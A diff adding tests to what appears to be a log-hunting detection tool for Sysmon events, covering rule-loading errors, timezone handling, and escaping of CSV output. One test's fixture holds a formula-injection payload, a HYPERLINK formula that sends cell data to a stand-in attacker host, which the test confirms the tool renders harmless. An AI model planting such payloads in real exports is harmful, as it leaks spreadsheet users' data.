@@ -133,3 +133,64 @@ def test_hunt_skips_non_utf8_syslog_lines(tmp_path: Path) -> None:
     assert result.exit_code == 0, result.output
     assert f"{log}:1: not UTF-8" in result.stderr
     assert "events read: 1, skipped: 1" in result.stderr
+
+
+def test_hunt_without_any_loaded_rule_exits_2(tmp_path: Path) -> None:
+    """A rule folder where nothing loads must not look like a clean "0 detections" hunt."""
+    (tmp_path / "broken.yml").write_text("title: x\ndetection: [not, a, map]\n", encoding="utf-8")
+    (tmp_path / "ev.jsonl").write_text('{"message": "x"}\n', encoding="utf-8")
+    result = CliRunner().invoke(hunt, ["--rules", str(tmp_path / "broken.yml"), str(tmp_path / "ev.jsonl")])
+    assert result.exit_code == 2
+    assert "no rule loaded" in result.stderr and "broken.yml" in result.stderr
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    result = CliRunner().invoke(hunt, ["--rules", str(empty), str(tmp_path / "ev.jsonl")])
+    assert result.exit_code == 2 and "no rule loaded" in result.stderr
+
+
+def test_hunt_csv_neutralises_formulas(tmp_path: Path) -> None:
+    """A command line an attacker controls must reach the analyst's spreadsheet as text, not a formula."""
+    rule = RULE.replace("Image|endswith: '\\whoami.exe'", "CommandLine|contains: 'HYPERLINK'")
+    (tmp_path / "r.yml").write_text(rule, encoding="utf-8")
+    payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    event = {
+        "Channel": "Microsoft-Windows-Sysmon/Operational",
+        "EventID": 1,
+        "Hostname": "@PC1",
+        "CommandLine": payload,
+    }
+    (tmp_path / "ev.jsonl").write_text(json.dumps(event) + "\n", encoding="utf-8")
+    result = CliRunner().invoke(
+        hunt, ["--rules", str(tmp_path / "r.yml"), "--format", "csv", str(tmp_path / "ev.jsonl")]
+    )
+    assert result.exit_code == 0, result.output
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert len(rows) == 1
+    assert rows[0]["host"] == "'@pc1"
+    assert rows[0]["rule_title"] == "Whoami Execution"
+    assert rows[0]["event"].startswith("{") and payload.replace('"', '\\"') in rows[0]["event"]
+    for value in rows[0].values():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+def test_hunt_reads_nxlog_event_time_in_the_given_zone(tmp_path: Path) -> None:
+    (tmp_path / "r.yml").write_text(RULE, encoding="utf-8")
+    event = {
+        "Channel": "Microsoft-Windows-Sysmon/Operational",
+        "EventID": 1,
+        "Hostname": "PC1",
+        "EventTime": "2026-11-23 10:00:00",
+        "Image": "C:\\Windows\\System32\\whoami.exe",
+    }
+    (tmp_path / "ev.jsonl").write_text(json.dumps(event) + "\n", encoding="utf-8")
+    args = ["--rules", str(tmp_path / "r.yml"), str(tmp_path / "ev.jsonl")]
+    default = CliRunner().invoke(hunt, args)
+    assert default.exit_code == 0, default.output
+    assert json.loads(default.stdout)["timestamp"] == "2026-11-23T03:00:00.000Z"  # Asia/Ho_Chi_Minh
+    utc = CliRunner().invoke(hunt, ["--timezone", "UTC", *args])
+    assert json.loads(utc.stdout)["timestamp"] == "2026-11-23T10:00:00.000Z"
+    bad = CliRunner().invoke(hunt, ["--timezone", "Mars/Olympus", *args])
+    assert bad.exit_code == 2 and "unknown time zone" in bad.output
